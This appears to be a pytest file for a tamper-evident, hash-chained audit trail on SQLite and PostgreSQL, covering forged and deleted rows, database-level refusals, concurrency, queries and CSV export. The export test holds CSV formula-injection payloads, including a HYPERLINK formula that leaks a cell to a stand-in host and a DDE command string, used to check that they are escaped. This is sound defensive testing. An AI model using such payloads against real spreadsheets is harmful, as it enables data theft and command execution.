"""The audit trail on a real database (SQLite and PostgreSQL): appends chain, tampering of any kind shows with its
sequence, the database itself refuses updates and deletes, concurrent writers keep one chain, queries and export."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import datetime, timedelta, timezone

import pytest
from sqlalchemy import delete, insert, select, text, update
from sqlalchemy.exc import DBAPIError

from services.registry.access.audit import AuditFilter, AuditTrail
from services.registry.access.audit_chain import GENESIS, entry_hash
from services.registry.access.audit_models import AuditEntry, AuditHead
from shared.database import create_engine
from tests.registry.audit.conftest import tamper

ACTORS = ("anne@med.be", "bart@med.be", "chris@med.be")


async def seed(trail: AuditTrail, clock, count: int = 6) -> None:
    for index in range(count):
        await trail.append("file.read", actor=ACTORS[index % 3], account_id=index % 3 + 1, roles=["staff"],
                           number=f"MED-2027-{index % 2 + 1:05d}", ip=f"192.0.2.{index}", user_agent="Firefox",
                           reason=f"reason {index}" if index % 2 else None, details={"index": index})
        clock.advance(minutes=10)


async def rows(trail: AuditTrail) -> list[dict]:
    async with trail.engine.connect() as connection:
        result = await connection.execute(select(AuditEntry.__table__).order_by(AuditEntry.sequence))
        return [dict(row._mapping) for row in result]


async def test_appends_form_one_chain_from_genesis(trail_on_db):
    trail, clock = trail_on_db
    assert (await trail.verify()).ok and (await trail.verify()).entries == 0
    await seed(trail, clock)
    stored = await rows(trail)
    assert [row["sequence"] for row in stored] == [1, 2, 3, 4, 5, 6]
    assert stored[0]["prev_hash"] == GENESIS
    assert all(later["prev_hash"] == earlier["hash"] for earlier, later in zip(stored, stored[1:]))
    assert stored[1]["reason"] == "reason 1" and stored[1]["ip"] == "192.0.2.1"
    assert stored[1]["at"] == datetime(2027, 2, 1, 9, 10, tzinfo=timezone.utc)
    result = await trail.verify()
    assert (result.ok, result.entries, result.head_sequence, result.head_hash) == (True, 6, 6, stored[-1]["hash"])


# A different value for each column, as someone editing the table would write it.
EDITS = {
    "at": lambda row: row["at"] + timedelta(seconds=1),
    "account_id": lambda row: (row["account_id"] or 0) + 100,
    "actor": lambda row: "someone.else@med.be",
    "roles": lambda row: "admin",
    "action": lambda row: "file.denied",
    "number": lambda row: "MED-2027-09999",
    "ip": lambda row: "198.51.100.66",
    "user_agent": lambda row: "forged",
    "reason": lambda row: "a better reason",
    "details": lambda row: {"index": -1},
    "prev_hash": lambda row: "f" * 64,
    "hash": lambda row: "e" * 64,
}


async def test_editing_any_column_of_any_row_is_detected_with_its_sequence(trail_on_db):
    trail, clock = trail_on_db
    await seed(trail, clock, count=5)
    original = await rows(trail)
    assert set(EDITS) | {"sequence"} == set(original[0])  # every column of the table is tried
    for row in (original[0], original[2], original[4]):
        sequence = row["sequence"]
        for column, edit in EDITS.items():
            await tamper(trail.engine, update(AuditEntry).where(AuditEntry.sequence == sequence)
                         .values({column: edit(row)}))
            result = await trail.verify()
            expected = "previous hash differs" if column == "prev_hash" else "content altered"
            assert (result.ok, result.first_broken, result.problem) == (False, sequence, expected), column
            await tamper(trail.engine, update(AuditEntry).where(AuditEntry.sequence == sequence)
                         .values({column: row[column]}))
            assert (await trail.verify()).ok, column
        # Renumbering an entry leaves a hole where it was.
        await tamper(trail.engine, update(AuditEntry).where(AuditEntry.sequence == sequence).values(sequence=99))
        result = await trail.verify()
        assert (result.first_broken, result.problem) == (sequence, "missing")
        await tamper(trail.engine, update(AuditEntry).where(AuditEntry.sequence == 99).values(sequence=sequence))
        assert (await trail.verify()).ok


async def test_deleting_or_inserting_a_row_is_detected(trail_on_db):
    trail, clock = trail_on_db
    await seed(trail, clock, count=5)
    original = await rows(trail)

    for sequence in (1, 3, 5):  # the first, one in the middle, the last (the head still names it)
        await tamper(trail.engine, delete(AuditEntry).where(AuditEntry.sequence == sequence))
        result = await trail.verify()
        assert (result.ok, result.first_broken, result.problem) == (False, sequence, "missing")
        await tamper(trail.engine, insert(AuditEntry).values(original[sequence - 1]))
        assert (await trail.verify()).ok

    # An entry slipped in at the end, hashed correctly on the last one: the head does not know it.
    head = original[-1]
    forged = dict(at=head["at"], account_id=None, actor="intruder@example.org", roles="", action="file.read",
                  number=None, ip=None, user_agent=None, reason=None, details={})
    forged_hash = entry_hash(6, head["hash"], **forged)
    await tamper(trail.engine, insert(AuditEntry).values(sequence=6, prev_hash=head["hash"], hash=forged_hash,
                                                         **forged))
    result = await trail.verify()
    assert (result.ok, result.first_broken, result.problem) == (False, 6, "beyond the head")
    await tamper(trail.engine, delete(AuditEntry).where(AuditEntry.sequence == 6))

    # An entry replaced by a forgery that is consistent in itself: the next one no longer links to it.
    forged_hash = entry_hash(3, original[1]["hash"], **forged)
    await tamper(trail.engine, delete(AuditEntry).where(AuditEntry.sequence == 3),
                 insert(AuditEntry).values(sequence=3, prev_hash=original[1]["hash"], hash=forged_hash, **forged))
    result = await trail.verify()
    assert (result.ok, result.first_broken, result.problem) == (False, 4, "previous hash differs")

    # The last entry removed and the head moved back onto the one before: only a copy of the head kept elsewhere
    # (printed by `ombudsdesk audit verify`) shows that; within the database the chain is whole again.
    await tamper(trail.engine, delete(AuditEntry).where(AuditEntry.sequence.in_([3, 5])),
                 insert(AuditEntry).values(original[2]),
                 update(AuditHead).values(sequence=4, hash=original[3]["hash"]))
    result = await trail.verify()
    assert result.ok and result.head_hash != head["hash"]


async def test_the_database_refuses_to_update_or_delete_entries_and_to_rewind_the_head(trail_on_db):
    trail, clock = trail_on_db
    await seed(trail, clock, count=3)
    refused = [
        update(AuditEntry).where(AuditEntry.sequence == 2).values(reason="changed"),
        delete(AuditEntry).where(AuditEntry.sequence == 3),
        delete(AuditEntry),
        update(AuditHead).values(sequence=2),
        update(AuditHead).values(sequence=4, hash="d" * 64),
        delete(AuditHead),
    ]
    if trail.engine.dialect.name == "postgresql":
        refused += [text("TRUNCATE audit_trail"), text("TRUNCATE audit_head")]
    for statement in refused:
        with pytest.raises(DBAPIError) as refusal:
            async with trail.engine.begin() as connection:
                await connection.execute(statement)
        assert "audit_" in str(refusal.value.orig)
    assert (await trail.verify()).ok and (await trail.verify()).entries == 3
    await trail.append("logout", actor="anne@med.be", account_id=1)  # appending still works
    assert (await trail.verify()).entries == 4


async def test_concurrent_appends_from_two_engines_keep_one_chain(database_url, trail_on_db):
    trail, _clock = trail_on_db
    other_engine = create_engine(database_url)  # a second process's connection pool
    other = AuditTrail(other_engine)
    try:
        async def burst(target: AuditTrail, name: str) -> None:
            await asyncio.gather(*(target.append("file.read", actor=f"{name}@med.be", number=f"MED-2027-{i:05d}",
                                                 details={"i": i}) for i in range(15)))

        await asyncio.gather(burst(trail, "first"), burst(other, "second"), burst(trail, "third"))
    finally:
        await other_engine.dispose()
    stored = await rows(trail)
    assert [row["sequence"] for row in stored] == list(range(1, 46))
    assert all(later["prev_hash"] == earlier["hash"] for earlier, later in zip(stored, stored[1:]))
    assert {row["actor"] for row in stored} == {"first@med.be", "second@med.be", "third@med.be"}
    result = await trail.verify()
    assert (result.ok, result.entries) == (True, 45)


async def test_queries_per_file_per_person_by_action_and_time(trail_on_db):
    trail, clock = trail_on_db
    await seed(trail, clock)  # 09:00, 09:10 ... 09:50
    await trail.append("change.assign", actor="Anne@Med.be", account_id=1, number="med-2027-00001")
    await trail.append("account.role_changed", actor="admin@med.be", account_id=9)

    def sequences(records):
        return [record.sequence for record in records]

    assert sequences(await trail.for_file("MED-2027-00001")) == [7, 5, 3, 1]
    assert sequences(await trail.for_file("med-2027-00001", limit=2, offset=1)) == [5, 3]
    assert sequences(await trail.for_account("anne@med.be")) == [7, 4, 1]
    assert sequences(await trail.for_account(2)) == [5, 2]
    assert sequences(await trail.recent(limit=3)) == [8, 7, 6]
    assert sequences(await trail.search(AuditFilter(action="change.*"))) == [7]
    assert sequences(await trail.search(AuditFilter(action="account.*"))) == [8]
    assert sequences(await trail.search(AuditFilter(action="change%"))) == []  # no wildcard from a filter
    since = datetime(2027, 2, 1, 9, 10, tzinfo=timezone.utc)
    until = datetime(2027, 2, 1, 9, 30, tzinfo=timezone.utc)
    assert sequences(await trail.search(AuditFilter(since=since, until=until))) == [3, 2]
    assert await trail.count(AuditFilter(number="MED-2027-00001", account="anne@med.be")) == 2


async def test_export_is_csv_with_every_hashed_field_and_formula_cells_escaped(trail_on_db):
    trail, clock = trail_on_db
    await trail.append("file.read", actor="anne@med.be", account_id=1, number="MED-2027-00001",
                       reason='=HYPERLINK("http://evil.example/?"&A1,"click")', user_agent="+cmd|' /C calc'!A0",
                       details={"note": "@SUM(1+1)"})
    await trail.append("file.read", actor="bart@med.be", account_id=2, number="MED-2027-00002", reason="-2+3")
    exported = list(csv.DictReader(io.StringIO(await trail.export_csv(AuditFilter(account="anne@med.be")))))
    assert len(exported) == 1
    row = exported[0]
    assert row["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["user_agent"] == "'+cmd|' /C calc'!A0"
    assert row["details"] == '{"note":"@SUM(1+1)"}'  # starts with "{": no formula
    stored = (await rows(trail))[0]
    assert (row["sequence"], row["actor"], row["number"], row["prev_hash"], row["hash"]) == (
        "1", "anne@med.be", "MED-2027-00001", GENESIS, stored["hash"])
    every = list(csv.DictReader(io.StringIO(await trail.export_csv())))
    assert [r["sequence"] for r in every] == ["1", "2"] and every[1]["reason"] == "'-2+3"


async def test_hostile_values_are_stored_bounded_and_still_verify(trail_on_db):
    trail, _clock = trail_on_db
    record = await trail.append("file.denied", actor="x" * 1000 + "\x00@evil", number="MED-2027-1\x00" + "9" * 100,
                                ip="not an ip\x00", user_agent="UA\x00" + "u" * 5000, reason="r\x00" * 5000,
                                details={"deep": [[[[["too deep"]]]]], "text": "the letter's body"})
    stored = (await rows(trail))[0]
    assert stored["hash"] == record.hash and len(stored["actor"]) == 320 and "\x00" not in stored["actor"]
    assert len(stored["number"]) == 40 and len(stored["user_agent"]) == 300 and len(stored["reason"]) == 2000
    assert "text" not in stored["details"]
    assert (await trail.verify()).ok
